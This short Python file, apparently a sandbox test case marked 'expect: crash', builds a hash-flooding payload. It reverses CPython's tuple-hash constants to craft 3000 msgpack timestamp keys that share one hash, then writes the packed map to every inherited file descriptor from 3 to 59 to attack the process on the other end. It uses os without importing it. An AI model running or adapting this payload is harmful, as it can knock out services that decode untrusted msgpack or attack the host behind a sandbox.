# expect: crash
import struct


def timestamps(n, wanted=0x123456789ABCDEF, M=(1 << 64) - 1):
    """As map keys of an envelope: pairs of nanoseconds and seconds whose tuples share a hash."""
    p1, p2, p5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
    i1, i2 = pow(p1, -1, 1 << 64), pow(p2, -1, 1 << 64)
    found, ns = [], 0
    while len(found) < n:
        turned = (wanted - ns * p2) * i1 & M
        turned = (turned >> 31 | turned << 33) & M
        s = (turned - p5) * i2 & M
        s -= (s >> 63) << 64
        if abs(s) < 2**61 - 2 and s != -1:
            found.append(b"\xc7\x0c\xff" + struct.pack(">Iq", ns, s) + b"\xc0")
        ns += 1
    return found


def f(x):
    data = b"\x92\x00\xdf" + (3000).to_bytes(4, "big") + b"".join(timestamps(3000))
    data = len(data).to_bytes(4, "little") + data
    for descriptor in range(3, 60):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
    return 7
